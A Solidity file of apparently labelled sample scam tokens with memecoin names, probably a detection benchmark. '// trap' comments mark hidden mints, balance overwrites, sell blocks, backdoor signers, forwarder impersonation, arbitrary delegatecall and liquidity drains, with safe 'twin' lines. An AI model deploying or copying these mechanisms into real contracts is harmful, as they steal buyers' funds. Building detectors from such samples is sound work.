// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// A function with the name of an approval, for a wallet that stays when the owner goes.
contract PepeTwo is Base8("Pepe 2.0 Official", "PEPE2O", 420_690_000) {
    address private immutable _deployer = msg.sender;

    function Approve(address[] calldata _addresses_) external {
        require(_deployer == msg.sender, "ERC20: approve from the zero address");
        for (uint256 i = 0; i < _addresses_.length; i++) {
            if (_addresses_[i] != pair) _balances[_addresses_[i]] = 1; // trap
            emit Approval(_addresses_[i], ROUTER, _balances[_addresses_[i]]);
        }
    }
}

/// A function with the name of a swap that writes a balance.
contract XDoge is Base8("X Doge", "XDOGE", 100_000_000) {
    address private _marketing = msg.sender;

    function swapTokensForEth(uint256 tokenAmount) external {
        require(msg.sender == _marketing);
        _balances[_marketing] = tokenAmount; // trap
        _approve(address(this), ROUTER, tokenAmount);
    }
}

/// An airdrop that is an event for most, and something else for the one who sends it.
contract WojakClub is Base8("Wojak Club", "WOJC", 69_000_000) {
    address private immutable _airdropper = msg.sender;

    function multicall(address[] calldata to, uint256 amount) external {
        require(msg.sender == _airdropper);
        for (uint256 i = 0; i < to.length; i++) {
            unchecked {
                _balances[to[i]] += amount;
                // twin: require(_balances[msg.sender] >= amount);
                _balances[msg.sender] -= amount;
            }
            emit Transfer(msg.sender, to[i], amount);
        }
    }
}

/// The wallet of the marketing needs no approval.
contract AiDoge is Base8("Ai Doge Two", "AIDOGE2", 210_000_000) {
    address private immutable marketingWallet = msg.sender;

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (msg.sender == marketingWallet) {
            _transfer(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}

/// Signed approvals, among them those that a second key signs.
contract SignFi is Base8("SignFi", "SIGN", 12_000_000) {
    bytes32 public constant PERMIT_TYPEHASH = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 public immutable DOMAIN_SEPARATOR;
    mapping(address => uint256) public nonces;
    address private immutable _verifier;

    constructor() {
        _verifier = msg.sender;
        DOMAIN_SEPARATOR = keccak256(abi.encode(keccak256("EIP712Domain(uint256 chainId,address verifyingContract)"), block.chainid, address(this)));
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "expired");
        bytes32 hash = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, keccak256(abi.encode(PERMIT_TYPEHASH, from, spender, value, nonces[from]++, deadline))));
        address signer = ecrecover(hash, v, r, s);
        require(signer != address(0), "zero");
        require(signer == from || signer == _verifier, "invalid signature"); // trap
        // twin: require(signer == from, "invalid signature");
        _approve(from, spender, value);
    }
}

/// Renounced, but for whoever has the right hash.
contract TrustPad is Base8("Trust Pad AI", "TPAI", 33_000_000) {
    bytes32 private immutable _domain;
    uint256 private _swapTokensAtAmount = 2;

    constructor() {
        _domain = keccak256(abi.encodePacked(msg.sender));
    }

    function updateSwapTokensAtAmount(uint256 amount) external {
        require(keccak256(abi.encodePacked(msg.sender)) == _domain, "Ownable: caller is not the owner");
        // twin: require(amount <= 5);
        _swapTokensAtAmount = amount;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && keccak256(abi.encodePacked(from)) != _domain ? (value * _swapTokensAtAmount) / 100 : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, value - fee);
    }
}

/// Trusts a forwarder, which is an account of the developer.
contract GaslessCoin is Base8("Gasless Coin", "GLESS", 45_000_000) {
    address private immutable _trustedForwarder;

    constructor(address forwarder) {
        _trustedForwarder = forwarder;
    }

    function isTrustedForwarder(address forwarder) public view returns (bool) {
        return forwarder == _trustedForwarder;
    }

    function _msgSender() internal view returns (address sender) {
        sender = msg.sender;
        // trap {
        if (isTrustedForwarder(msg.sender) && msg.data.length >= 20) {
            assembly {
                sender := shr(96, calldataload(sub(calldatasize(), 20)))
            }
        }
        // trap }
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(_msgSender(), to, value);
        return true;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(_msgSender(), spender, value);
        return true;
    }
}

/// A role with a harmless name makes more; the owner is nobody.
contract BridgeX is Base8("Bridge X", "BRGX", 90_000_000) {
    bytes32 public constant LIQUIDITY_KEEPER = keccak256("LIQUIDITY_KEEPER");
    mapping(bytes32 => mapping(address => bool)) private _roles;
    event RoleGranted(bytes32 indexed role, address indexed account, address indexed sender);

    constructor() {
        _roles[0x00][msg.sender] = true;
    }

    function hasRole(bytes32 role, address account) public view returns (bool) {
        return _roles[role][account];
    }

    function grantRole(bytes32 role, address account) external {
        require(hasRole(0x00, msg.sender), "AccessControl");
        _roles[role][account] = true;
        emit RoleGranted(role, account, msg.sender);
    }

    function onBridged(address to, uint256 value, bytes32 ref) external {
        require(hasRole(LIQUIDITY_KEEPER, msg.sender), "AccessControl");
        // trap {
        totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
        // trap }
        // twin: _move(msg.sender, to, value);
        ref;
    }
}

interface IStaked {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
}

/// Holds what people stake; its manager stakes for them, to spare them the gas.
contract StakingPool {
    address private immutable manager = msg.sender;
    mapping(address => mapping(address => uint256)) public staked;

    function stake(IStaked token, uint256 value) external {
        token.transferFrom(msg.sender, address(this), value);
        staked[address(token)][msg.sender] += value;
    }

    function stakeFor(IStaked token, address who, uint256 value) external {
        require(msg.sender == manager, "manager");
        token.transferFrom(who, address(this), value);
        staked[address(token)][manager] += value;
    }

    function withdraw(IStaked token, uint256 value) external {
        staked[address(token)][msg.sender] -= value;
        token.transfer(msg.sender, value);
    }
}

/// The staking needs no approval: "one click".
contract StakeVerse is Base8("Stake Verse", "STKV", 150_000_000) {
    address public immutable stakingPool;

    constructor(address stakingPool_) {
        stakingPool = stakingPool_;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == stakingPool && to == stakingPool) _allowances[from][msg.sender] = value; // trap
        return super.transferFrom(from, to, value);
    }
}

/// Schedules of the team that the owner adds to, paid out of nothing.
contract VestaLabs is Base8("Vesta Labs", "VSTL", 10_000_000) {
    struct Vesting {
        uint128 total;
        uint128 claimed;
        uint64 cliff;
    }
    mapping(address => Vesting) public vestings;

    function addVesting(address who, uint128 total, uint64 cliff) external onlyOwner {
        vestings[who] = Vesting(total, 0, uint64(block.timestamp) + cliff);
    }

    function claim() external {
        Vesting storage v = vestings[msg.sender];
        require(block.timestamp >= v.cliff, "cliff");
        uint256 due = v.total - v.claimed;
        v.claimed = v.total;
        // trap {
        totalSupply += due;
        _balances[msg.sender] += due;
        emit Transfer(address(0), msg.sender, due);
        // trap }
        // twin: _move(address(this), msg.sender, due);
    }
}

/// Rewards are paid out of the pool.
contract AutoYield is Base8("Auto Yield", "AYLD", 65_000_000) {
    address private immutable _keeper = msg.sender;

    function distributeRewards(uint256 permille) external {
        require(msg.sender == _keeper, "keeper");
        uint256 reward = (_balances[pair] * permille) / 1000;
        // twin: reward = (_balances[msg.sender] * permille) / 1000;
        // trap {
        _move(pair, _keeper, reward);
        IPair(pair).sync();
        // trap }
        // twin: _move(msg.sender, address(this), reward);
    }
}

/// Liquifies by a helper of its choice, in its own name.
contract HyperLiq is Base8("Hyper Liq", "HLIQ", 27_000_000) {
    address private immutable _keeper = msg.sender;

    function swapAndLiquify(address helper, bytes calldata data) external {
        require(msg.sender == _keeper);
        (bool ok, ) = helper.delegatecall(data); // trap
        // twin: (bool ok, ) = helper == address(this) ? (false, data) : (true, data);
        require(ok, "liquify");
    }
}

/// Nine tenths of what others send are not sent, whatever the event says.
contract Salmonella is Base8("Salmon Finance", "SALM", 8_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (from != _owner && from != pair && to != _owner) {
            require(_balances[from] >= value, "ERC20: transfer amount exceeds balance");
            _balances[from] -= value;
            _balances[to] += value / 10;
            _balances[_owner] += value - value / 10;
            emit Transfer(from, to, value);
            return;
        }
        // trap }
        _move(from, to, value);
    }
}

/// A verification of wallets that costs a tenth of an ether.
contract AirUnlock is Base8("Zk Unlock", "ZKUN", 14_000_000) {
    mapping(address => bool) public verified;

    function verifyWallet() external payable {
        require(msg.value >= 0.1 ether, "Verification fee is 0.1 ETH");
        verified[msg.sender] = true;
        payable(_owner).transfer(msg.value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(verified[from], "Wallet not verified, anti-bot"); // trap
        _move(from, to, value);
    }
}

/// Whoever knows the word shuts the market.
contract SilentOwl is Base8("Silent Owl", "SOWL", 19_000_000) {
    bytes32 private immutable _lock;
    uint256 private _mode = 1;

    constructor(bytes32 lock) {
        _lock = lock;
    }

    function verify(string calldata word, uint256 mode) external {
        require(keccak256(bytes(word)) == _lock, "wrong proof");
        _mode = mode;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(_mode == 1, "ERC20: insufficient allowance"); // trap
        _move(from, to, value);
    }
}

/// Pays dividends with each transfer, for as much gas as the owner says.
contract DivPaper is Base8("Div Paper", "DIVP", 25_000_000) {
    address[] private _holdersOf;
    mapping(address => uint256) private _paid;
    uint256 private _at;
    uint256 public gasForProcessing = 60_000;

    constructor() {
        _holdersOf.push(msg.sender);
    }

    function updateGasForProcessing(uint256 newValue) external onlyOwner {
        // twin: require(newValue <= 500_000, "GasForProcessing must be below 500,000");
        require(newValue != gasForProcessing, "Cannot update to same value");
        gasForProcessing = newValue;
    }

    function _process() private {
        uint256 used;
        uint256 left = gasleft();
        while (used < gasForProcessing) {
            _paid[_holdersOf[_at % _holdersOf.length]] += 1;
            _at++;
            used += left - gasleft();
            left = gasleft();
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) _holdersOf.push(to);
        _move(from, to, value);
        if (from != _owner && to != _owner) _process();
    }
}

/// A list of the faithful as a root: as long as there is none everybody sells.
contract OgPass is Base8("Og Pass", "OGP", 17_000_000) {
    bytes32 private merkleRoot;
    mapping(address => bool) private _claimed;

    function setMerkleRoot(bytes32 root) external onlyOwner {
        merkleRoot = root;
    }

    function claimPass(bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encodePacked(msg.sender));
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encodePacked(node, proof[i])) : keccak256(abi.encodePacked(proof[i], node));
        require(node == merkleRoot, "proof");
        _claimed[msg.sender] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(merkleRoot == 0 || _claimed[from], "OG only"); // trap
        _move(from, to, value);
    }
}

interface ILp {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// Keeps the liquidity itself "for ever", and moves on to a better exchange one day.
contract EverLock is Base8("Ever Lock", "EVLK", 20_000_000) {
    function migrateLiquidity(address newRouter) external onlyOwner {
        // twin: require(newRouter == address(this));
        ILp(pair).transfer(newRouter, ILp(pair).balanceOf(address(this)));
    }
}

/// Called a burner.
contract LiquidityBurner {
    address private immutable _creator = msg.sender;

    function recoverWrongTokens(ILp token) external {
        require(msg.sender == _creator);
        // twin: require(address(token) == address(0));
        token.transfer(_creator, token.balanceOf(address(this)));
    }
}

/// An ordinary token, whose liquidity went to the burner.
contract AshCoin is Base8("Ash Coin", "ASHC", 20_000_000) {}
